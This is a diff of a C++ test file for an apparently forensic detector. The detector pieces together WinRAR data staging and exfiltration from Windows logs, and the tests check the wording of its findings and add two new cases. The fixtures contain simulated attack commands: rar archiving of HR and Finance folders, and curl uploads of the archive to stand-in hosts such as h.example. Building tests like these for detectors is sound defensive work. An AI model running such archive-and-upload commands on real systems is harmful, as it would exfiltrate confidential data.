@@ -216,9 +216,11 @@ TEST_F(BuiltCase, OneFindingTellsTheWholeStory) {
   EXPECT_EQ(severity_of(finding), Severity::critical);
   const std::string story = story_of(finding);
   // By whom, from where, into what.
-  EXPECT_THAT(story, HasSubstr("PC\\eve packed C:\\HR, \\\\srv\\c$\\Finance, D:\\Plans into "
-                               "C:\\PerfLogs\\1.rar at " +
-                               time(0).iso8601()));
+  EXPECT_THAT(
+      story,
+      HasSubstr("PC\\eve gave the command to pack C:\\HR, \\\\srv\\c$\\Finance, D:\\Plans into "
+                "C:\\PerfLogs\\1.rar at " +
+                time(0).iso8601()));
   EXPECT_THAT(story, HasSubstr("It packs files of another host: \\\\srv\\c$\\Finance."));
   // With what.
   EXPECT_THAT(story, HasSubstr("C:\\PerfLogs\\svch.exe is RAR by its version resource"));
@@ -236,10 +238,11 @@ TEST_F(BuiltCase, OneFindingTellsTheWholeStory) {
                                time(7201).iso8601()));
   EXPECT_THAT(story, HasSubstr("1.part2.rar, made at " + time(20).iso8601()));
   // What became of it.
-  EXPECT_THAT(story, HasSubstr("It was sent away with curl to https://h.example at " +
-                               time(3600).iso8601() + " by PC\\eve"));
+  EXPECT_THAT(
+      story, HasSubstr("A command was given that sends it away with curl to https://h.example at " +
+                       time(3600).iso8601() + " by PC\\eve"));
   // When.
-  EXPECT_THAT(story, HasSubstr("It was packed from " + time(0).iso8601() + " to " +
+  EXPECT_THAT(story, HasSubstr("The evidence of it is of " + time(0).iso8601() + " to " +
                                time(49).iso8601() + "."));
   EXPECT_THAT(all_of(finding), Not(HasSubstr("S3cr#t")));
   for (const char* technique : {"T1560.001", "T1074.001", "T1036.003", "T1070.004", "T1041"})
@@ -298,7 +301,7 @@ TEST(WinRarStaging, OneActThatSeveralLogsTellIsOneFinding) {
   ASSERT_THAT(run.context->findings, SizeIs(1));
   const std::string story = story_of(run.context->findings[0]);
   EXPECT_THAT(run.context->findings[0].title, HasSubstr("2 archives"));
-  EXPECT_EQ(story.find("packed \\\\srv\\c$\\HR"), story.rfind("packed \\\\srv\\c$\\HR"));
+  EXPECT_EQ(story.find("to pack \\\\srv\\c$\\HR"), story.rfind("to pack \\\\srv\\c$\\HR"));
 }
 
 TEST(WinRarStaging, ActsFarApartAreTwoFindings) {
@@ -373,7 +376,7 @@ TEST(WinRarStaging, BatchesOfFtpByTheSameUserMayHaveSentIt) {
                     "curl -T C:\\PerfLogs\\1.rar https://late.example")});
   ASSERT_THAT(run.context->findings, SizeIs(1));
   EXPECT_THAT(story_of(run.context->findings[0]),
-              HasSubstr("Files may have been sent away with ftp"));
+              HasSubstr("A command was given that may send it away with ftp"));
   EXPECT_THAT(story_of(run.context->findings[0]), Not(HasSubstr("late.example")));
 }
 
@@ -392,8 +395,27 @@ TEST(WinRarStaging, WhatUsersTypedIsReadToo) {
   for (const Finding& finding : run.context->findings) all += all_of(finding);
   EXPECT_THAT(all, HasSubstr("(the Run dialog)"));
   EXPECT_THAT(all, HasSubstr("(PowerShell's history)"));
-  EXPECT_THAT(all, HasSubstr("eve packed D:\\Plans"));
+  EXPECT_THAT(all, HasSubstr("eve gave the command to pack D:\\Plans"));
   EXPECT_THAT(all, Not(HasSubstr("S3cr#t")));
+}
+
+TEST(WinRarStaging, UploadsOfOtherArchivesOfTheSameNameAreNone) {
+  const auto run = judge_winrar(
+      {process_fact(at(0), "C:\\T\\rar.exe", "rar a -hpX C:\\PerfLogs\\1.rar C:\\HR"),
+       process_fact(at(60), "C:\\Windows\\System32\\curl.exe",
+                    "curl -T D:\\Other\\1.rar https://other.example"),
+       process_fact(at(90), "C:\\Windows\\System32\\curl.exe", "curl -T 1.rar https://h.example")});
+  ASSERT_THAT(run.context->findings, SizeIs(1));
+  EXPECT_THAT(story_of(run.context->findings[0]), Not(HasSubstr("other.example")));
+  EXPECT_THAT(story_of(run.context->findings[0]), HasSubstr("https://h.example"));
+}
+
+TEST(WinRarInnocent, AnArchiveThatAnInstallerLeavesInAFolderOfWindowsIsLow) {
+  const auto run = judge_winrar(
+      {usn_fact("created", at(0), "C:\\ProgramData\\x.7z"),
+       usn_fact("deleted", at(9), "C:\\ProgramData\\x.7z", {{"created", at(0).iso8601()}})});
+  EXPECT_LE(highest(run), Severity::low) << fake::summary_of(run.context->findings);
+  EXPECT_THAT(run.context->findings, SizeIs(1));
 }
 
 TEST(WinRarStaging, RenamedArchiversWithoutAnActAreToldByThemselves) {
